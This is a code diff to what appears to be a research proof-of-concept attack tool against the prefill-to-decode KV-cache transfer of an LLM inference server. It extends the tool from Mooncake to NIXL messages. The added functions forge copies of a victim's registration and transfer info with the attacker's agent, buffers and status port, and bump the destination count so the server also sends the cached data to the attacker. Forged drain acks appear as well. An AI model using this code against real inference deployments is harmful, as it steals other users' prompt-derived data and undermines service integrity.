@@ -16,6 +16,12 @@ Mooncake's frames (decode to prefill, 0.5.19 .. 0.5.23; ``/work/notes`` research
   writes every chunk of the room to each destination it holds;
 - abort ``[b"ABORT", room, decode_ip, decode_port(, generation)]`` and, back from prefill, the drain ack
   ``[b"ABORT_ACK", room, prefill_rank(, generation)]`` (the generation from 0.5.22 on).
+
+NIXL's registrations and transfer infos start with a guard frame (``NixlMsgGuard``); after it, a registration is
+``[b"None", ip, port, agent_name, agent_metadata, kv_ptrs Q*, aux_ptrs Q*, state_ptrs, gpu_id, tp_size, tp_rank,
+kv_item_len, ..., dst_num_slots (16), kv_mem_kinds (17), kv_item_lens Q* (18), ...]`` (the first registration
+of an agent name wins) and a transfer info ``[room, ip, port, agent_name, kv_indices i32*, aux_index,
+required_dst_info_num, ...]``; aborts and drain acks are Mooncake's.
 """
 
 from __future__ import annotations
@@ -36,6 +42,7 @@ LOOPBACK = "127.0.0.1"
 REGISTRATION = b"None"
 ABORT = b"ABORT"
 ABORT_ACK = b"ABORT_ACK"
+NIXL_GUARD = b"NixlMsgGuard"
 
 Frames = Sequence[bytes]
 
@@ -99,12 +106,18 @@ class Tap:
             time.sleep(0.05)
 
 
+def _unguarded(frames: Frames) -> Frames:
+    """A NIXL message without its guard frame (a Mooncake message as it is)."""
+    return frames[1:] if frames and frames[0] == NIXL_GUARD else frames
+
+
 def is_registration(frames: Frames) -> bool:
-    return len(frames) > 9 and frames[0] == REGISTRATION
+    own = _unguarded(frames)
+    return len(own) > 9 and own[0] == REGISTRATION
 
 
 def is_transfer_info(room: int) -> Callable[[Frames], bool]:
-    return lambda frames: len(frames) > 7 and frames[0] == str(room).encode()
+    return lambda frames: len(_unguarded(frames)) > 6 and _unguarded(frames)[0] == str(room).encode()
 
 
 def is_abort(room: int) -> Callable[[Frames], bool]:
@@ -130,6 +143,11 @@ class Layout:
 
     @classmethod
     def of(cls, registration: Frames) -> Layout:
+        if registration[0] == NIXL_GUARD:
+            own = registration[1:]
+            entries = len(own[5]) // 8
+            per_entry = _unpack(own[18], "Q") if len(own) > 18 and own[18] else [int(own[11])] * entries
+            return cls(tuple(per_entry), len(own[6]) // 8)
         entries = len(registration[4]) // 8
         per_entry = _unpack(registration[19], "Q") if len(registration) > 19 else []
         if len(per_entry) != entries:  # before 0.5.23: one length for every buffer (frame 9)
@@ -200,8 +218,32 @@ def copy_transfer_info(victim: Frames, dest: Destination, status_port: int) -> l
     return frames
 
 
+def nixl_copy_registration(victim: Frames, dest: Destination, metadata: bytes, status_port: int) -> list[bytes]:
+    """NIXL: the victim's registration with the attacker's agent (name ``dest.session``, its ``metadata``),
+    status address and host buffers, ``dest.pages`` slots per KV buffer (its layout kept)."""
+    frames = list(victim)
+    frames[2:6] = [LOOPBACK.encode(), str(status_port).encode(), dest.session.encode(), metadata]
+    frames[6] = _pack(dest.kv_ptrs(), "Q")
+    frames[7] = _pack(dest.aux_ptrs(), "Q")
+    frames[9] = b"0"  # gpu id: host memory is device 0
+    if len(frames) > 18:
+        frames[17] = str(dest.pages).encode()  # dst_num_slots
+        frames[18] = ",".join(["DRAM"] * len(dest.layout.item_lens)).encode()
+    return frames
+
+
+def nixl_copy_transfer_info(victim: Frames, dest: Destination, status_port: int) -> list[bytes]:
+    """NIXL: :func:`copy_transfer_info` for the attacker's agent."""
+    frames = list(victim)
+    frames[2:5] = [LOOPBACK.encode(), str(status_port).encode(), dest.session.encode()]
+    frames[5] = _pack(range(dest.pages), "i")
+    frames[6] = b"0"
+    frames[7] = str(int(victim[7]) + 1).encode()
+    return frames
+
+
 def pages_of(transfer_info: Frames) -> int:
-    return len(transfer_info[4]) // 4
+    return len(_unguarded(transfer_info)[4]) // 4
 
 
 def forged_drain_acks(room: int, abort: Frames, ranks: Iterable[int] = (0, 1),
